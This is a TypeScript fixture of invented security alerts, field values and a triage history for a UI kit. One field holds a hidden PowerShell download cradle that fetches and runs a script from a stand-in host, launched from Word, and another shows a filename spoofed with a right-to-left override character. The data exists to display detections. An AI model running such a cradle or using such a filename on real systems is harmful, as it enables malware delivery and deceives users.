/** Invented alerts for looking at the kit; nothing of this is ever shipped. */

import type { Field } from '#ui/FieldList.tsx';
import type { HistoryEntry } from '#ui/history.ts';
import { severities } from '#ui/words.ts';

const titles = [
  'Suspicious PowerShell download cradle',
  'LSASS memory read by an unsigned process',
  'Root console sign-in without MFA',
  'Scheduled task made by an Office program',
  'Many failed sign-ins, then one that worked',
  'New service from a temporary folder',
  'CloudTrail logging stopped in a production account of the payments unit',
  'SSH key added to authorized_keys',
];

export const alertAt = (index: number, now = Date.now()) => ({
  id: `alr_${String(index).padStart(6, '0')}`,
  severity: severities[Math.abs(index) % 5] as string,
  title: titles[Math.abs(index) % titles.length] as string,
  entity: index % 3 === 0 ? `WS-${1000 + index}` : index % 3 === 1 ? 'acme\\svc-backup' : '10.14.3.77',
  count: ((index * 7919) % 4000) + 1,
  owner:
    index % 4 === 0
      ? null
      : { id: `acc_${index % 4}`, name: ['', 'Ada Lovelace', 'Grace Hopper', 'Katherine Johnson'][index % 4] ?? '' },
  verdict: index % 5 === 0 ? 'benign_true_positive.expected_admin_work' : null,
  firstAt: new Date(now - index * 97_000 - 5000).toISOString(),
});
export type Row = ReturnType<typeof alertAt>;

const command =
  'powershell.exe -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString(\'http://203.0.113.9/a.ps1\')"';
export const fields: readonly Field[] = [
  {
    name: 'Image',
    value: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
    matched: true,
    marks: [[44, 59]],
  },
  {
    name: 'CommandLine',
    value: command,
    matched: true,
    marks: [[command.indexOf('DownloadString'), command.indexOf('DownloadString') + 14]],
  },
  { name: 'ParentImage', value: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE' },
  { name: 'User', value: 'ACME\\jdoe' },
  { name: 'LogonId', value: '0x3e7' },
  { name: 'OriginalFileName', value: '' },
  { name: 'Company', value: null },
  { name: 'Hashes.IMPHASH', value: undefined },
  { name: 'Spoofed', value: 'invoice\u202Efdp.exe' },
];

const today = '2026-11-23T08:5';
export const entries: readonly HistoryEntry[] = [
  {
    id: '1',
    at: `${today}0:00.000Z`,
    who: { name: 'Detection', kind: 'system' },
    did: 'raised the alert',
    sequence: 411,
  },
  {
    id: '2',
    at: `${today}4:10.000Z`,
    who: { name: 'Ada Lovelace', kind: 'person' },
    did: 'claimed it',
    changes: [{ name: 'owner', from: 'Tier 1 queue', to: 'Ada Lovelace' }],
    sequence: 415,
  },
  {
    id: '3',
    at: `${today}8:10.000Z`,
    who: { name: 'Ada Lovelace', kind: 'person' },
    did: 'wrote a note',
    text: 'The user says that they opened an invoice.\nHost isolated at the switch.',
    sequence: 421,
  },
  {
    id: '4',
    at: `${today}9:01.000Z`,
    who: { name: 'Ada Lovelace', kind: 'person' },
    did: 'escalated it to Invoice phishing',
    why: 'a second host shows the same parent',
    tone: 'warn',
    sequence: 422,
  },
];
